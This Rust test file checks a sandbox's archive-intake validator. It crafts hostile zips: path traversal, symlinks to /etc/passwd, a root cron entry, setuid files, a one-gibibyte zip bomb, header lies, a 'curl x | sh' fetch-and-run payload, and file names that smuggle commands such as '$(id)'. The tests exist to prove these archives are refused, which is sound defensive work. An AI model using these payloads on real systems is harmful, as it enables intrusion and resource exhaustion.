//! Tests of archive intake: the hostile-archive catalogue of `shared/notes/sandbox.md` 5.1, one test per row, plus packing, unwrapping and base64.
//!
//! Hostile archives are built with `zip::ZipWriter` where it can, and by patching the bytes it wrote
//! (names, sizes, methods, flags, offsets) where it refuses. Every rejection test checks the rule id,
//! that the message names the entry, and that the destination does not exist afterwards.

use std::io::{Cursor, Write};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

use crate::package::{IntakeError, IntakeLimits, decode_base64, pack_dir, unpack};

const CONFIG: &str = r#"{"name": "demo", "command": ["python3", "server.py"]}"#;
const SERVER: &str = "print('hello')\n";
/// Generous limits, so each test trips only the rule it is about.
const UPLOAD: u64 = 64 << 20;

fn limits() -> IntakeLimits {
    IntakeLimits::new(UPLOAD)
}

fn options() -> SimpleFileOptions {
    SimpleFileOptions::default().compression_method(CompressionMethod::Deflated)
}

/// A zip of `entries` (name, data), written with default options.
fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        writer.start_file(*name, options()).unwrap();
        writer.write_all(data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A valid package plus `extra` entries after it.
fn package_with(extra: &[(&str, &[u8])]) -> Vec<u8> {
    let mut entries: Vec<(&str, &[u8])> =
        vec![("server_config.json", CONFIG.as_bytes()), ("server.py", SERVER.as_bytes())];
    entries.extend_from_slice(extra);
    zip_of(&entries)
}

/// A fresh temporary directory and a destination inside it that does not exist yet.
struct Scratch {
    dir: tempfile::TempDir,
}

impl Scratch {
    fn new() -> Scratch {
        Scratch { dir: tempfile::tempdir().unwrap() }
    }

    fn dest(&self) -> PathBuf {
        self.dir.path().join("out")
    }
}

/// Unpacks `zip`, expects the rule `rule`, a message naming `entry` (when given), and no destination left.
fn assert_rejected_with(zip: &[u8], limits: &IntakeLimits, rule: &str, entry: Option<&str>) -> IntakeError {
    let scratch = Scratch::new();
    let dest = scratch.dest();
    let error = unpack(zip, limits, &dest).expect_err("the archive must be refused");
    assert_eq!(error.rule(), rule, "wrong rule; the error was: {error}");
    let message = error.to_string();
    if let Some(entry) = entry {
        assert!(message.contains(&format!("entry `{entry}`")), "the message must name `{entry}`: {message}");
        assert_eq!(error.entry(), Some(entry));
    }
    assert!(message.contains("(rule: "), "the message must name the rule: {message}");
    assert!(!dest.exists(), "nothing may be left at the destination after: {message}");
    assert_eq!(std::fs::read_dir(scratch.dir.path()).unwrap().count(), 0, "nothing may be written beside it either");
    error
}

fn assert_rejected(zip: &[u8], rule: &str, entry: &str) -> IntakeError {
    assert_rejected_with(zip, &limits(), rule, Some(entry))
}

// Raw patching. Offsets follow APPNOTE 4.3.7 (local header) and 4.3.12 (central directory header).

const LOCAL_SIG: [u8; 4] = [0x50, 0x4b, 0x03, 0x04];
const CENTRAL_SIG: [u8; 4] = [0x50, 0x4b, 0x01, 0x02];

fn u16_at(zip: &[u8], at: usize) -> usize {
    usize::from(u16::from_le_bytes([zip[at], zip[at + 1]]))
}

fn set_u16(zip: &mut [u8], at: usize, value: u16) {
    zip[at..at + 2].copy_from_slice(&value.to_le_bytes());
}

fn set_u32(zip: &mut [u8], at: usize, value: u32) {
    zip[at..at + 4].copy_from_slice(&value.to_le_bytes());
}

/// Offsets of the local header and of the central directory record of the entry named `name`.
fn headers_of(zip: &[u8], name: &[u8]) -> (usize, usize) {
    let find = |sig: [u8; 4], name_len_at: usize, name_at: usize| {
        (0..zip.len().saturating_sub(name_at))
            .find(|&at| {
                zip[at..at + 4] == sig
                    && u16_at(zip, at + name_len_at) == name.len()
                    && zip.get(at + name_at..at + name_at + name.len()) == Some(name)
            })
            .unwrap_or_else(|| panic!("no header for {}", String::from_utf8_lossy(name)))
    };
    (find(LOCAL_SIG, 26, 30), find(CENTRAL_SIG, 28, 46))
}

/// Renames an entry in both its headers; the new name must be as long as the old one.
fn rename(zip: &mut [u8], old: &[u8], new: &[u8]) {
    assert_eq!(old.len(), new.len());
    let (local, central) = headers_of(zip, old);
    zip[local + 30..local + 30 + new.len()].copy_from_slice(new);
    zip[central + 46..central + 46 + new.len()].copy_from_slice(new);
}

/// Sets the Unix mode in the central directory record (external attributes, high half).
fn set_mode(zip: &mut [u8], name: &[u8], mode: u32) {
    let (_, central) = headers_of(zip, name);
    zip[central + 5] = 3; // made by Unix
    set_u32(zip, central + 38, mode << 16);
}

// --- Row: oversized upload -----------------------------------------------------------------------

#[test]
fn base64_over_the_limit_is_refused_before_decoding() {
    let limits = IntakeLimits::new(1_000_000);
    // Not base64 at all: were it decoded, the error would be `not_base64`.
    let text = "!".repeat(8_000_000);
    let error = decode_base64(&text, &limits).expect_err("too large");
    assert_eq!(error.rule(), "too_large", "{error}");
    assert!(error.to_string().contains("1000000"), "the message gives the limit: {error}");
    // Just under the bound passes the size check and reaches decoding.
    let error = decode_base64(&"!".repeat(1_333_332), &limits).expect_err("not base64");
    assert_eq!(error.rule(), "not_base64", "{error}");
}

#[test]
fn raw_upload_over_the_limit_is_refused() {
    let zip = package_with(&[("data.txt", &[b'x'; 4096])]);
    let limits = IntakeLimits::new(zip.len() as u64 - 1);
    let error = assert_rejected_with(&zip, &limits, "too_large", None);
    assert!(error.to_string().contains("max_upload_size_mb"), "{error}");
}

#[test]
fn bad_base64_is_refused_with_the_reason() {
    let cases = [
        ("", "empty"),
        ("data:application/zip;base64,UEsDBA==", "data URL"),
        ("UEsD\nBA==", "whitespace inside"),
        ("UEsDBA-_", "URL-safe"),
        ("UEsD$A==", "`$`"),
        ("UEsDB", "truncated"),
        ("UEsDBA=", "padding"),
    ];
    for (text, expected) in cases {
        let error = decode_base64(text, &limits()).expect_err(text);
        assert_eq!(error.rule(), "not_base64", "{text}: {error}");
        assert!(error.to_string().contains(expected), "{text}: the message should mention {expected}: {error}");
    }
}

#[test]
fn base64_with_surrounding_whitespace_decodes() {
    let zip = package_with(&[]);
    let text = format!("\n  {}  \r\n", base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &zip));
    assert_eq!(decode_base64(&text, &limits()).unwrap(), zip);
}

// --- Rows: `../`, Windows separators, absolute paths ---------------------------------------------

#[test]
fn parent_directory_paths_are_refused() {
    let error = assert_rejected(&package_with(&[("../../evil.txt", b"x")]), "path_traversal", "../../evil.txt");
    assert!(error.to_string().contains("`..` components"), "{error}");
    assert_rejected(&package_with(&[("lib/../../evil.txt", b"x")]), "path_traversal", "lib/../../evil.txt");
}

#[test]
fn windows_separators_are_refused() {
    assert_rejected(&package_with(&[("..\\..\\x", b"x")]), "backslash", "..\\..\\x");
}

#[test]
fn absolute_paths_are_refused_not_stripped() {
    assert_rejected(&package_with(&[("/etc/cron.d/x", b"* * * * * root sh")]), "absolute_path", "/etc/cron.d/x");
    assert_rejected(&package_with(&[("C:/Windows/x", b"x")]), "absolute_path", "C:/Windows/x");
}

// --- Rows: symlinks ------------------------------------------------------------------------------

#[test]
fn symlink_entries_are_refused_with_what_follows_them() {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("server_config.json", options()).unwrap();
    writer.write_all(CONFIG.as_bytes()).unwrap();
    writer.add_symlink("link", "/etc", options()).unwrap();
    writer.start_file("link/file", options()).unwrap();
    writer.write_all(b"owned").unwrap();
    let zip = writer.finish().unwrap().into_inner();
    assert_rejected(&zip, "symlink", "link");
}

#[test]
fn relative_symlinks_are_refused() {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("server_config.json", options()).unwrap();
    writer.write_all(CONFIG.as_bytes()).unwrap();
    writer.add_symlink("passwd", "../../../../etc/passwd", options()).unwrap();
    let zip = writer.finish().unwrap().into_inner();
    assert_rejected(&zip, "symlink", "passwd");
}

// --- Row: setuid/setgid/world-writable modes ----------------------------------------------------

#[test]
fn setuid_and_setgid_entries_are_refused() {
    for (mode, name) in [(0o104_755, "suid.sh"), (0o102_755, "sgid.sh")] {
        let mut zip = package_with(&[(name, b"#!/bin/sh\n")]);
        set_mode(&mut zip, name.as_bytes(), mode);
        let error = assert_rejected(&zip, "setuid", name);
        assert!(error.to_string().contains(&format!("{mode:o}")), "{error}");
    }
}

#[test]
fn world_writable_modes_are_replaced_by_sane_ones() {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("server_config.json", options().unix_permissions(0o666)).unwrap();
    writer.write_all(CONFIG.as_bytes()).unwrap();
    writer.add_directory("bin/", options().unix_permissions(0o777)).unwrap();
    writer.start_file("bin/run.sh", options().unix_permissions(0o777)).unwrap();
    writer.write_all(b"#!/bin/sh\n").unwrap();
    writer.start_file("secret.txt", options().unix_permissions(0o000)).unwrap();
    writer.write_all(b"x").unwrap();
    let zip = writer.finish().unwrap().into_inner();
    let scratch = Scratch::new();
    let dest = scratch.dest();
    let unpacked = unpack(&zip, &limits(), &dest).unwrap();
    assert_eq!(unpacked.files, 3);
    let mode = |rel: &str| std::fs::metadata(dest.join(rel)).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode(""), 0o755);
    assert_eq!(mode("server_config.json"), 0o644);
    assert_eq!(mode("bin"), 0o755);
    assert_eq!(mode("bin/run.sh"), 0o755, "the executable bit is kept, the world-write bit is not");
    assert_eq!(mode("secret.txt"), 0o644, "a file the archive made unreadable is readable by the sandbox user");
}

// --- Row: zip bombs ------------------------------------------------------------------------------

/// A raw deflate stream that inflates to `mebibytes` MiB of zeros, built from one fully flushed
/// block repeated (each full flush resets the compressor, so every block is the same bytes).
fn zeros_deflated(mebibytes: usize) -> Vec<u8> {
    let chunk = vec![0u8; 1 << 20];
    let block = |compressor: &mut flate2::Compress| {
        let mut out = Vec::with_capacity(64 * 1024);
        compressor.compress_vec(&chunk, &mut out, flate2::FlushCompress::Full).unwrap();
        out
    };
    let mut compressor = flate2::Compress::new(flate2::Compression::best(), false);
    let first = block(&mut compressor);
    assert_eq!(first, block(&mut compressor), "a full flush must make identical blocks");
    let mut stream = first.repeat(mebibytes);
    let mut end = Vec::with_capacity(64);
    compressor.compress_vec(&[], &mut end, flate2::FlushCompress::Finish).unwrap();
    stream.extend_from_slice(&end);
    stream
}

/// The CRC-32 of `mebibytes` MiB of zeros, combined rather than computed over a gibibyte.
fn zeros_crc(mebibytes: usize) -> u32 {
    let mut chunk = crc32fast::Hasher::new();
    chunk.update(&vec![0u8; 1 << 20]);
    let mut all = crc32fast::Hasher::new();
    for _ in 0..mebibytes {
        all.combine(&chunk);
    }
    all.finalize()
}

/// A package whose `bomb.bin` is a real deflate stream of `mebibytes` MiB of zeros; its headers
/// declare `declared` bytes (the truth, or a lie).
fn bomb(mebibytes: usize, declared: u32) -> Vec<u8> {
    let stream = zeros_deflated(mebibytes);
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("server_config.json", options()).unwrap();
    writer.write_all(CONFIG.as_bytes()).unwrap();
    // Written stored, so the writer copies the stream as it is; the headers are patched to say deflated.
    writer.start_file("bomb.bin", options().compression_method(CompressionMethod::Stored)).unwrap();
    writer.write_all(&stream).unwrap();
    let mut zip = writer.finish().unwrap().into_inner();
    let (local, central) = headers_of(&zip, b"bomb.bin");
    let crc = zeros_crc(mebibytes);
    for (header, method_at, crc_at, size_at) in [(local, 8, 14, 22), (central, 10, 16, 24)] {
        set_u16(&mut zip, header + method_at, 8);
        set_u32(&mut zip, header + crc_at, crc);
        set_u32(&mut zip, header + size_at, declared);
    }
    zip
}

#[test]
fn a_one_gibibyte_zip_bomb_is_refused_from_its_headers() {
    let zip = bomb(1024, 1 << 30);
    assert!(zip.len() < 2 << 20, "the bomb is small: {} bytes", zip.len());
    let error = assert_rejected(&zip, "compression_ratio", "bomb.bin");
    assert!(error.to_string().contains("1073741824"), "{error}");
}

#[test]
fn a_zip_bomb_with_a_lying_header_is_cut_off_at_the_declared_size() {
    // Declares 4 KiB, inflates to 1 GiB: only 4 KiB + 1 byte may come out before the refusal.
    let error = assert_rejected(&bomb(1024, 4096), "size_mismatch", "bomb.bin");
    assert!(error.to_string().contains("4096"), "{error}");
}

#[test]
fn entries_over_the_size_limits_are_refused() {
    // Stored, so the ratio is 1 and only the size limits apply.
    let stored = |entries: &[(&str, &[u8])]| {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        for (name, data) in entries {
            writer
                .start_file(*name, SimpleFileOptions::default().compression_method(CompressionMethod::Stored))
                .unwrap();
            writer.write_all(data).unwrap();
        }
        writer.finish().unwrap().into_inner()
    };
    let big = vec![7u8; 3 << 20];
    let mut limits = limits();
    limits.max_entry_bytes = 2 << 20;
    let zip = stored(&[("server_config.json", CONFIG.as_bytes()), ("big.bin", &big)]);
    assert_rejected_with(&zip, &limits, "entry_too_large", Some("big.bin"));
    let mut limits = self::limits();
    limits.max_total_bytes = 5 << 20;
    let zip = stored(&[("server_config.json", CONFIG.as_bytes()), ("a.bin", &big), ("b.bin", &big)]);
    assert_rejected_with(&zip, &limits, "total_too_large", Some("b.bin"));
}

#[test]
fn nested_zips_are_extracted_as_files_and_never_opened() {
    let inner = zip_of(&[("../../evil.txt", b"owned")]);
    let zip = package_with(&[("vendor/inner.zip", &inner)]);
    let scratch = Scratch::new();
    let dest = scratch.dest();
    unpack(&zip, &limits(), &dest).unwrap();
    assert_eq!(std::fs::read(dest.join("vendor/inner.zip")).unwrap(), inner);
    assert!(!scratch.dir.path().join("evil.txt").exists());
}

#[test]
fn overlapping_entries_are_refused() {
    // A non-recursive bomb: the central directory points two entries at the same compressed data.
    // The second name is one byte longer, so its header is known to end after the first one's.
    let mut zip = package_with(&[("a.txt", &[b'a'; 1000]), ("bb.txt", &[b'a'; 1000])]);
    let (a_local, _) = headers_of(&zip, b"a.txt");
    let (_, b_central) = headers_of(&zip, b"bb.txt");
    set_u32(&mut zip, b_central + 42, a_local as u32);
    let error = assert_rejected(&zip, "overlapping_entries", "bb.txt");
    assert!(error.to_string().contains("`a.txt`"), "{error}");
}

// --- Row: huge entry count, depth, path length ---------------------------------------------------

#[test]
fn twenty_thousand_entries_are_refused() {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let stored = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    writer.start_file("server_config.json", stored).unwrap();
    writer.write_all(CONFIG.as_bytes()).unwrap();
    for i in 0..20_000 {
        writer.start_file(format!("f{i}"), stored).unwrap();
    }
    let zip = writer.finish().unwrap().into_inner();
    let error = assert_rejected_with(&zip, &limits(), "too_many_entries", None);
    assert!(error.to_string().contains("20001 entries"), "{error}");
}

#[test]
fn deep_and_long_paths_are_refused() {
    let deep = "d/".repeat(32) + "x.py";
    assert_rejected(&package_with(&[(&deep, b"x")]), "too_deep", &deep);
    let long = "a".repeat(256);
    // Messages show at most 160 characters of a name.
    assert_rejected(&package_with(&[(&long, b"x")]), "path_too_long", &format!("{}…", &long[..160]));
}

// --- Rows: duplicates ----------------------------------------------------------------------------

#[test]
fn duplicate_names_are_refused() {
    // `zip` keeps the last of two same-named entries (the evil one); the writer refuses to make
    // them, so the second name is patched in.
    let mut zip = package_with(&[("server.pz", b"import os; os.system('curl x | sh')")]);
    rename(&mut zip, b"server.pz", b"server.py");
    let error = assert_rejected(&zip, "duplicate_name", "server.py");
    assert!(error.to_string().contains("appears twice"), "{error}");
}

#[test]
fn case_only_duplicates_are_refused() {
    let error = assert_rejected(&package_with(&[("Server.py", b"evil")]), "duplicate_name", "Server.py");
    assert!(error.to_string().contains("letter case"), "{error}");
}

#[test]
fn unicode_normalisation_twins_are_refused() {
    // `café.py` composed (NFC) and decomposed (NFD): names are ASCII only, so neither gets in.
    let zip = package_with(&[("caf\u{e9}.py", b"a"), ("cafe\u{301}.py", b"b")]);
    let error = assert_rejected(&zip, "unsafe_name", "caf\\u{e9}.py");
    assert!(error.to_string().contains("U+00E9"), "{error}");
}

// --- Row: non-UTF-8, control characters, NUL, unsafe characters -----------------------------------

#[test]
fn names_with_control_characters_or_nul_are_refused() {
    assert_rejected(&package_with(&[("log\u{1}.txt", b"x")]), "unsafe_name", "log\\u{1}.txt");
    assert_rejected(&package_with(&[("a\nb.txt", b"x")]), "unsafe_name", "a\\nb.txt");
    // The writer takes any name; the NUL is patched in to be sure it reaches the reader intact.
    let mut zip = package_with(&[("nul_x.py", b"x")]);
    rename(&mut zip, b"nul_x.py", b"nul\0x.py");
    assert_rejected(&zip, "unsafe_name", "nul\\u{0}x.py");
}

#[test]
fn names_that_are_not_utf8_are_refused() {
    let mut zip = package_with(&[("latin_.py", b"x")]);
    rename(&mut zip, b"latin_.py", b"latin\xe9.py");
    let error = assert_rejected(&zip, "unsafe_name", "latin\\xe9.py");
    assert!(error.to_string().contains("not UTF-8"), "{error}");
}

#[test]
fn names_outside_the_safe_set_are_refused() {
    for name in ["my file.py", "x;rm -rf.py", "-rf", "a/-n", "./x.py", "a//b.py", "$(id).py", "a\u{202e}txt.py"] {
        let shown = crate::package::display_name(name.as_bytes());
        assert_rejected(&package_with(&[(name, b"x")]), "unsafe_name", &shown);
    }
}

// --- Row: encrypted entries ----------------------------------------------------------------------

#[test]
fn encrypted_entries_are_refused() {
    use zip::unstable::write::FileOptionsExt;
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("server_config.json", options()).unwrap();
    writer.write_all(CONFIG.as_bytes()).unwrap();
    writer.start_file("secret.py", options().with_deprecated_encryption(b"hunter2").unwrap()).unwrap();
    writer.write_all(b"import os").unwrap();
    let zip = writer.finish().unwrap().into_inner();
    let error = assert_rejected(&zip, "encrypted", "secret.py");
    assert!(error.to_string().contains("password"), "{error}");
}

// --- Row: corrupt, truncated, prepended data, ZIP64 lies, CRC mismatch ----------------------------

#[test]
fn truncated_archives_are_refused() {
    let zip = package_with(&[("data.txt", &[b'x'; 2000])]);
    let error = assert_rejected_with(&zip[..zip.len() - 30], &limits(), "corrupt", None);
    assert!(error.to_string().contains("cannot be read"), "{error}");
}

#[test]
fn garbage_is_refused() {
    assert_rejected_with(b"this is not a zip file at all", &limits(), "corrupt", None);
}

#[test]
fn prepended_data_is_refused() {
    // A polyglot: a shell script with a zip appended, whose offsets the zip reader silently adjusts.
    let mut zip = b"#!/bin/sh\necho owned\nexit 0\n".to_vec();
    zip.extend_from_slice(&package_with(&[]));
    let error = assert_rejected_with(&zip, &limits(), "prepended_data", None);
    assert!(error.to_string().contains("28 bytes"), "{error}");
}

#[test]
fn crc_mismatches_are_refused_and_the_partial_file_removed() {
    let stored = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("server_config.json", stored).unwrap();
    writer.write_all(CONFIG.as_bytes()).unwrap();
    writer.start_file("data.txt", stored).unwrap();
    writer.write_all(&[b'a'; 100_000]).unwrap();
    let mut zip = writer.finish().unwrap().into_inner();
    let (local, _) = headers_of(&zip, b"data.txt");
    let data_at = local + 30 + 8 + u16_at(&zip, local + 28);
    zip[data_at + 50_000] = b'b';
    let error = assert_rejected(&zip, "corrupt", "data.txt");
    assert!(error.to_string().contains("CRC-32"), "{error}");
}

#[test]
fn zip64_size_lies_are_caught_while_inflating() {
    // ZIP64 extra fields carry the real sizes; both headers say 100 bytes, the data inflates to 10,000.
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("server_config.json", options()).unwrap();
    writer.write_all(CONFIG.as_bytes()).unwrap();
    writer.start_file("data.txt", options().large_file(true)).unwrap();
    writer.write_all(&[b'z'; 10_000]).unwrap();
    let mut zip = writer.finish().unwrap().into_inner();
    let (local, central) = headers_of(&zip, b"data.txt");
    let zip64_field = |zip: &[u8], extra_at: usize, extra_len: usize| {
        let mut at = extra_at;
        while at < extra_at + extra_len {
            if u16_at(zip, at) == 1 {
                return at + 4;
            }
            at += 4 + u16_at(zip, at + 2);
        }
        panic!("no ZIP64 extra field");
    };
    let local_zip64 = zip64_field(&zip, local + 30 + 8, u16_at(&zip, local + 28));
    let central_zip64 = zip64_field(&zip, central + 46 + 8, u16_at(&zip, central + 30));
    // Both extra fields start with the uncompressed size.
    for at in [local_zip64, central_zip64] {
        zip[at..at + 8].copy_from_slice(&100u64.to_le_bytes());
    }
    let error = assert_rejected(&zip, "size_mismatch", "data.txt");
    assert!(error.to_string().contains("100 bytes"), "{error}");
}

#[test]
fn local_headers_that_disagree_with_the_central_directory_are_refused() {
    // A streaming reader would see `evil.py`; the central directory says `good.py`.
    let mut zip = package_with(&[("good.py", b"x")]);
    let (local, _) = headers_of(&zip, b"good.py");
    zip[local + 30..local + 37].copy_from_slice(b"evil.py");
    assert_rejected(&zip, "corrupt", "good.py");
}

#[test]
fn unsupported_compression_methods_are_refused() {
    let mut zip = package_with(&[("data.txt", b"hello hello hello")]);
    let (local, central) = headers_of(&zip, b"data.txt");
    set_u16(&mut zip, local + 8, 14); // LZMA
    set_u16(&mut zip, central + 10, 14);
    assert_rejected(&zip, "unsupported_compression", "data.txt");
}

// --- Other entry types ---------------------------------------------------------------------------

#[test]
fn devices_and_fifos_are_refused() {
    for (mode, kind) in [(0o020_644, "character device"), (0o060_644, "block device"), (0o010_644, "FIFO")] {
        let mut zip = package_with(&[("dev", b"")]);
        set_mode(&mut zip, b"dev", mode);
        let error = assert_rejected(&zip, "special_file", "dev");
        assert!(error.to_string().contains(kind), "{error}");
    }
}

#[test]
fn a_path_that_is_both_file_and_directory_is_refused() {
    assert_rejected(&package_with(&[("lib", b"x"), ("lib/mod.py", b"y")]), "path_conflict", "lib/mod.py");
}

// --- Row: missing or extra top-level folder, missing server_config.json -------------------------

#[test]
fn a_package_without_server_config_is_refused() {
    let error =
        assert_rejected_with(&zip_of(&[("server.py", SERVER.as_bytes())]), &limits(), "missing_server_config", None);
    assert!(error.to_string().contains("found `server.py`"), "{error}");
    // Two top-level folders: nothing to unwrap, so the config inside one is not at the root.
    let zip = zip_of(&[("a/server_config.json", CONFIG.as_bytes()), ("b/server.py", SERVER.as_bytes())]);
    let error = assert_rejected_with(&zip, &limits(), "missing_server_config", None);
    assert!(error.to_string().contains("`a`, `b`"), "{error}");
    // A config two folders down is not unwrapped either.
    let zip = zip_of(&[("a/b/server_config.json", CONFIG.as_bytes())]);
    assert_rejected_with(&zip, &limits(), "missing_server_config", None);
}

#[test]
fn a_package_wrapped_in_one_folder_is_unwrapped() {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer.add_directory("my-server/", options()).unwrap();
    for (name, data) in [("my-server/server_config.json", CONFIG), ("my-server/lib/util.py", "x = 1\n")] {
        writer.start_file(name, options()).unwrap();
        writer.write_all(data.as_bytes()).unwrap();
    }
    let zip = writer.finish().unwrap().into_inner();
    let scratch = Scratch::new();
    let dest = scratch.dest();
    let unpacked = unpack(&zip, &limits(), &dest).unwrap();
    assert_eq!(unpacked.files, 2);
    assert_eq!(std::fs::read_to_string(dest.join("server_config.json")).unwrap(), CONFIG);
    assert_eq!(std::fs::read_to_string(dest.join("lib/util.py")).unwrap(), "x = 1\n");
    assert!(!dest.join("my-server").exists());
}

// --- Row: extraction itself ----------------------------------------------------------------------

#[test]
fn an_existing_destination_is_refused_and_left_alone() {
    let scratch = Scratch::new();
    let dest = scratch.dest();
    std::fs::create_dir(&dest).unwrap();
    std::fs::write(dest.join("keep.txt"), "mine").unwrap();
    let error = unpack(&package_with(&[]), &limits(), &dest).expect_err("dest exists");
    assert_eq!(error.rule(), "destination_exists", "{error}");
    assert_eq!(std::fs::read_to_string(dest.join("keep.txt")).unwrap(), "mine");
}

#[test]
fn one_bad_entry_at_the_end_means_nothing_is_written() {
    let mut entries: Vec<(String, Vec<u8>)> = (0..50).map(|i| (format!("f{i}.py"), vec![b'x'; 1000])).collect();
    entries.push(("../evil.txt".into(), b"x".to_vec()));
    let borrowed: Vec<(&str, &[u8])> = entries.iter().map(|(n, d)| (n.as_str(), d.as_slice())).collect();
    assert_rejected(&package_with(&borrowed), "path_traversal", "../evil.txt");
}

#[test]
fn a_good_package_round_trips_through_pack_and_unpack() {
    let scratch = Scratch::new();
    let src = scratch.dir.path().join("src");
    std::fs::create_dir_all(src.join("lib/empty")).unwrap();
    std::fs::write(src.join("server_config.json"), CONFIG).unwrap();
    std::fs::write(src.join("server.py"), SERVER).unwrap();
    std::fs::write(src.join("lib/util.py"), "def f():\n    return 1\n".repeat(100)).unwrap();
    std::fs::write(src.join("run.sh"), "#!/bin/sh\nexec python3 server.py\n").unwrap();
    std::fs::set_permissions(src.join("run.sh"), std::fs::Permissions::from_mode(0o700)).unwrap();
    // Two MiB of zeros would break the ratio limit if deflated: packing stores it instead.
    std::fs::write(src.join("zeros.bin"), vec![0u8; 2 << 20]).unwrap();
    for skipped in [".venv/lib", "node_modules/x", "__pycache__", ".git"] {
        std::fs::create_dir_all(src.join(skipped)).unwrap();
        std::fs::write(src.join(skipped).join("junk.py"), "junk").unwrap();
    }

    let zip = pack_dir(&src, &limits()).unwrap();
    assert_eq!(zip, pack_dir(&src, &limits()).unwrap(), "packing is deterministic");
    let dest = scratch.dir.path().join("out");
    let unpacked = unpack(&zip, &limits(), &dest).unwrap();
    assert_eq!(unpacked.files, 5);
    assert_eq!(
        unpacked.bytes,
        tree_bytes(&src, &["server_config.json", "server.py", "lib/util.py", "run.sh", "zeros.bin"])
    );
    for rel in ["server_config.json", "server.py", "lib/util.py", "run.sh", "zeros.bin"] {
        assert_eq!(std::fs::read(dest.join(rel)).unwrap(), std::fs::read(src.join(rel)).unwrap(), "{rel}");
    }
    assert!(dest.join("lib/empty").is_dir(), "empty directories are kept");
    let mode = |rel: &str| std::fs::metadata(dest.join(rel)).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode("run.sh"), 0o755);
    assert_eq!(mode("server.py"), 0o644);
    for skipped in [".venv", "node_modules", "__pycache__", ".git"] {
        assert!(!dest.join(skipped).exists(), "{skipped} is left out");
    }
}

fn tree_bytes(root: &Path, files: &[&str]) -> u64 {
    files.iter().map(|f| std::fs::metadata(root.join(f)).unwrap().len()).sum()
}

// --- pack_dir's own refusals --------------------------------------------------------------------

fn source_dir(scratch: &Scratch) -> PathBuf {
    let src = scratch.dir.path().join("src");
    std::fs::create_dir(&src).unwrap();
    std::fs::write(src.join("server_config.json"), CONFIG).unwrap();
    src
}

#[test]
fn packing_refuses_symlinks_and_names_them() {
    let scratch = Scratch::new();
    let src = source_dir(&scratch);
    std::fs::create_dir(src.join("lib")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", src.join("lib/passwd")).unwrap();
    let error = pack_dir(&src, &limits()).expect_err("a symlink");
    assert_eq!(error.rule(), "symlink", "{error}");
    assert!(error.to_string().contains("entry `lib/passwd`"), "{error}");
}

#[test]
fn packing_refuses_special_files_and_names_them() {
    let scratch = Scratch::new();
    let src = source_dir(&scratch);
    let fifo = std::ffi::CString::new(src.join("pipe").into_os_string().into_encoded_bytes()).unwrap();
    // SAFETY: `fifo` is a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
    let error = pack_dir(&src, &limits()).expect_err("a FIFO");
    assert_eq!(error.rule(), "special_file", "{error}");
    assert!(error.to_string().contains("entry `pipe`"), "{error}");
}

#[test]
fn packing_lists_every_server_config_error() {
    let scratch = Scratch::new();
    let src = source_dir(&scratch);
    std::fs::write(src.join("server_config.json"), r#"{"name": "", "command": "python3 server.py", "transport": 5}"#)
        .unwrap();
    let error = pack_dir(&src, &limits()).expect_err("invalid config");
    assert_eq!(error.rule(), "invalid_server_config", "{error}");
    let message = error.to_string();
    for path in ["name", "command", "transport"] {
        assert!(message.lines().any(|l| l.starts_with(&format!("{path}:"))), "`{path}` is listed: {message}");
    }
}

#[test]
fn packing_requires_server_config_and_safe_names() {
    let scratch = Scratch::new();
    let src = scratch.dir.path().join("src");
    std::fs::create_dir(&src).unwrap();
    std::fs::write(src.join("server.py"), SERVER).unwrap();
    assert_eq!(pack_dir(&src, &limits()).expect_err("no config").rule(), "missing_server_config");
    std::fs::write(src.join("server_config.json"), CONFIG).unwrap();
    std::fs::write(src.join("my notes.txt"), "x").unwrap();
    let error = pack_dir(&src, &limits()).expect_err("a space");
    assert_eq!(error.rule(), "unsafe_name", "{error}");
    assert!(error.to_string().contains("entry `my notes.txt`"), "{error}");
}
